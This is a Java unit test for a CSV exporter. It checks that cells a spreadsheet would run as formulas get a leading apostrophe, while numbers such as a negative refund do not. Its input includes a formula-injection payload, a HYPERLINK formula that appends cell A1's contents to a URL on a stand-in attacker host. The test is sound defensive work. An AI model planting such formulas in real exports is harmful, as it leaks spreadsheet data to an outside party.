package org.emporium.statistics.api;

import static org.assertj.core.api.Assertions.assertThat;

import java.math.BigDecimal;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.emporium.statistics.application.ReportView;
import org.junit.jupiter.api.Test;

class CsvTest {
    @Test
    void textASpreadsheetWouldRunIsNeutralisedNumbersAreNot() {
        var row = new LinkedHashMap<String, Object>();
        row.put("name", "=HYPERLINK(\"https://evil.example/?\"&A1,\"Alpha\")");
        row.put("code", "@SUM(A1)");
        row.put("plus", "+1");
        row.put("refund", new BigDecimal("-12.50"));
        row.put("plain", "Alpha, the \"best\"");
        var csv = Csv.of(new ReportView("products", null, null, null, "Europe/Berlin", Map.of("top", List.of(row))));

        assertThat(csv.split("\r\n"))
                .containsExactly(
                        "section,top",
                        "name,code,plus,refund,plain",
                        "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Alpha\"\")\",'@SUM(A1),'+1,-12.50,"
                                + "\"Alpha, the \"\"best\"\"\"");
    }
}
